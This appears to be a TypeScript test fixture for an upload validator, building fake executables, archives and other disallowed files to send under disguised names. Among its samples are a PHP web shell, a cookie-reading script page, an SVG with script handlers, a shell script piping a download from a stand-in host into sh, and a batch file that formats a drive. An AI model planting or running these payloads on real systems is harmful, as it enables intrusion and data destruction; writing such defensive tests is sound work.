/** A file to send as one of the accepted types. */
export interface TestFile {
  /** Its name in a test. */
  what: string;
  filename: string;
  content: Buffer;
}

/** The name of each file, and its content. */
export type Disguises = [what: string, content: Buffer][];

export const latin = (text: string): Buffer => Buffer.from(text, 'latin1');

/** Cuts the end off. */
export const without = (content: Buffer, bytes: number): Buffer => content.subarray(0, content.length - bytes);

export const after = (content: Buffer, more: Buffer | string): Buffer =>
  Buffer.concat([content, Buffer.from(more as string)]);

/** A Windows program: its DOS part, and the header that follows. */
export function windowsProgram(): Buffer {
  const program = Buffer.alloc(512);
  program.write('MZ\x90\0\x03', 'latin1');
  program.writeUInt32LE(128, 60);
  program.write('\x0e\x1f\xba\x0e\0\xb4\t\xcd!This program cannot be run in DOS mode.\r\r\n$', 64, 'latin1');
  program.write('PE\0\0L\x01', 128, 'latin1');
  return program;
}

/** A program of Linux. */
export const linuxProgram = (): Buffer => Buffer.concat([latin('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]);

export const page = '<!doctype html><html><script>alert(document.cookie)</script></html>';
export const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
export const serverScript = '<?php system($_GET["c"]); ?>';
export const shellScript = '#!/bin/sh\ncurl -s https://elsewhere.example | sh\n';

/** Files that are no document or picture of an accepted type, under any name. */
export const strangers = (archive: Buffer): Disguises => [
  ['a Windows program', windowsProgram()],
  ['a program of Linux', linuxProgram()],
  ['a program of macOS', Buffer.concat([latin('\xcf\xfa\xed\xfe\x07\0\0\x01'), Buffer.alloc(100)])],
  ['an archive', archive],
  ['an empty archive', latin(`PK\x05\x06${'\0'.repeat(18)}`)],
  ['a RAR archive', Buffer.concat([latin('Rar!\x1a\x07\x01\0'), Buffer.alloc(50)])],
  ['a 7z archive', Buffer.concat([latin("7z\xbc\xaf'\x1c\0\x04"), Buffer.alloc(50)])],
  ['a gzip file', Buffer.concat([latin('\x1f\x8b\x08\0'), Buffer.alloc(50)])],
  ['a web page', latin(page)],
  ['an SVG drawing', latin(drawing)],
  ['an SVG drawing with its declaration', latin(`<?xml version="1.0"?>\n<!-- x -->\n${drawing}`)],
  ["a server's script", latin(serverScript)],
  ['a shell script', latin(shellScript)],
  ['a batch file', latin('@echo off\r\nformat c:\r\n')],
  ['rich text', latin('{\\rtf1\\ansi {\\object\\objdata 0105}}')],
  ['PostScript', latin('%!PS-Adobe-3.0\n(x) run\n')],
  ['a film', Buffer.concat([latin('\0\0\0\x18ftypmp42\0\0\0\0'), Buffer.alloc(50)])],
  ['a WebP picture', Buffer.concat([latin('RIFF\x1a\0\0\0WEBPVP8 '), Buffer.alloc(14)])],
  ['a database', Buffer.concat([latin('SQLite format 3\0'), Buffer.alloc(84)])],
  ['nothing but zeros', Buffer.alloc(1000)],
  ['noise', Buffer.from(Array.from({ length: 2000 }, (_, index) => (index * 7919 + (index >> 3) * 31) & 0xff))],
];
